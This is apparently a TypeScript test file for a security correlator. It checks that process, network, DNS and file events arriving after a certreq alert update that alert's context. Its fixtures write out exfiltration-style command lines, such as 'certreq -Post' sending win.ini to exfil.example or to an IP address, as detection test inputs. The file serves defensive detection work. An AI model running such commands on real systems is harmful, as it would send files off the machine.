/**
 * Live use of the correlator (serve/worker): events that arrive after an alert — its process's termination,
 * children, network/DNS/file activity — are reported by takeContextUpdates() as a new tree/lifetime/evidence,
 * and only for the alerts they really concern (PID reuse, other hosts, terminations before the start).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator } from '../../src/correlate/index.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, CMD, detections, sec4688, sec4689, sysmonDns, sysmonEnd, sysmonFile, sysmonNetwork, sysmonStart } from './support/events.js';

/** Feeds events the way the service does; alerts on certreq starts. */
function feed(c: Correlator, events: WinEvent[]): Alert[] {
  const out: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    const image = ev.data['Image'] ?? ev.data['NewProcessName'];
    if ((ev.system.eventId === 1 || ev.system.eventId === 4688) && image === CERTREQ) out.push(...c.alertsFor(ev, detections(ev, BUILTIN)));
  }
  return out;
}

type Live = { lifetime: Record<string, unknown>; process_tree: { children: Record<string, unknown>[] }; evidence?: Record<string, Record<string, unknown>[]> };

test('Sysmon: termination, a child, network, DNS and file events after the alert update its context; severity and incident stay', () => {
  const c = new Correlator();
  const [alert] = feed(c, [sysmonStart({ time: '2026-05-01T09:00:00Z', guid: 'g-cr', pid: 700, ppid: 500, parentGuid: 'g-cmd', image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -Post -config https://exfil.example/u C:\\Windows\\win.ini out.txt' })]);
  assert.ok(alert);
  assert.equal((alert.context!.lifetime as Record<string, unknown>).still_running, true);
  assert.deepEqual(c.takeContextUpdates(), [], 'nothing happened after the alert yet');
  const severity = alert.context!.severity;
  const incident = structuredClone(alert.context!.incident);

  feed(c, [
    sysmonNetwork({ time: '2026-05-01T09:00:01Z', guid: 'g-cr', pid: 700, ip: '203.0.113.7', hostname: 'exfil.example', port: 443 }),
    sysmonDns({ time: '2026-05-01T09:00:00.500Z', guid: 'g-cr', pid: 700, query: 'exfil.example', results: '203.0.113.7' }),
    sysmonFile({ time: '2026-05-01T09:00:02Z', guid: 'g-cr', pid: 700, path: 'C:\\Users\\alice\\out.txt' }),
    sysmonStart({ time: '2026-05-01T09:00:02.500Z', guid: 'g-child', pid: 710, ppid: 700, parentGuid: 'g-cr', image: CMD, cmd: 'cmd /c whoami' }),
    sysmonEnd({ time: '2026-05-01T09:00:03Z', guid: 'g-cr', pid: 700, image: CERTREQ }),
  ]);
  const updates = c.takeContextUpdates();
  assert.equal(updates.length, 1);
  assert.equal(updates[0]!.id, alert.id);
  const live = updates[0]!.context as Live;
  assert.equal(live.lifetime.still_running, false);
  assert.equal(live.lifetime.end, '2026-05-01T09:00:03Z');
  assert.equal(live.lifetime.duration_ms, 3000);
  assert.deepEqual(live.process_tree.children.map((ch) => ch.pid), [710]);
  assert.equal(live.evidence!.network![0]!.destination_ip, '203.0.113.7');
  assert.equal(live.evidence!.dns![0]!.query, 'exfil.example');
  assert.equal(live.evidence!.files![0]!.path, 'C:\\Users\\alice\\out.txt');
  // Only the live parts are reported: what fired (severity, incident) is not recomputed.
  assert.deepEqual(Object.keys(live).sort(), ['evidence', 'lifetime', 'process_tree']);
  assert.equal(alert.context!.severity, severity);
  assert.deepEqual(alert.context!.incident, incident);
  assert.deepEqual(c.takeContextUpdates(), [], 'reported once');

  // The child's own termination changes the child node of the tree (the child is followed too).
  feed(c, [sysmonEnd({ time: '2026-05-01T09:00:04Z', guid: 'g-child', pid: 710, image: CMD })]);
  const again = c.takeContextUpdates();
  assert.equal(again.length, 1);
  assert.equal((again[0]!.context as Live).process_tree.children[0]!.end, '2026-05-01T09:00:04Z');
});

test('Security 4688/4689 (hex PIDs): the right termination ends the process; other hosts, earlier ends and PID reuse change nothing', () => {
  const c = new Correlator();
  const [alert] = feed(c, [sec4688({ host: 'SRV01', time: '2026-05-01T10:00:00Z', pid: 0x1a2c, ppid: 0x200, image: CERTREQ, cmd: 'certreq -Post -config http://198.51.100.4/u C:\\Windows\\win.ini r.txt' })]);
  assert.ok(alert);
  feed(c, [
    sec4689({ host: 'SRV02', time: '2026-05-01T10:00:05Z', pid: 0x1a2c, image: CERTREQ }), // same PID, other host
    sec4689({ host: 'SRV01', time: '2026-05-01T09:59:00Z', pid: 0x1a2c, image: CERTREQ }), // same PID, before the start
  ]);
  assert.deepEqual(c.takeContextUpdates(), [], 'unrelated terminations give no update');

  feed(c, [sec4689({ host: 'SRV01', time: '2026-05-01T10:00:02Z', pid: 0x1a2c, image: CERTREQ, status: 0x1 })]);
  const [u] = c.takeContextUpdates();
  assert.ok(u);
  const lifetime = (u.context as Live).lifetime;
  assert.equal(lifetime.still_running, false);
  assert.equal(lifetime.duration_ms, 2000);
  assert.equal(lifetime.exit_status, '0x1');

  // The PID is reused by a new process that ends later: the alerting process keeps its own end.
  feed(c, [
    sec4688({ host: 'SRV01', time: '2026-05-01T10:05:00Z', pid: 0x1a2c, ppid: 0x200, image: CMD, cmd: 'cmd' }),
    sec4689({ host: 'SRV01', time: '2026-05-01T10:06:00Z', pid: 0x1a2c, image: CMD }),
  ]);
  assert.deepEqual(c.takeContextUpdates(), []);
});

test('followed alerts are bounded: beyond watchCapacity the oldest keep their context', () => {
  const c = new Correlator({ watchCapacity: 2 });
  const alerts = feed(c, [1, 2, 3].map((i) => sysmonStart({ time: `2026-05-01T11:00:0${i}Z`, guid: `g-${i}`, pid: 800 + i, image: CERTREQ, cmd: `certreq -Post -config http://x${i}/ C:\\Windows\\win.ini` })));
  assert.equal(alerts.length, 3);
  feed(c, [1, 2, 3].map((i) => sysmonEnd({ time: `2026-05-01T11:01:0${i}Z`, guid: `g-${i}`, pid: 800 + i, image: CERTREQ })));
  const ids = c.takeContextUpdates().map((u) => u.id).sort();
  assert.deepEqual(ids, [alerts[1]!.id, alerts[2]!.id].sort());
});
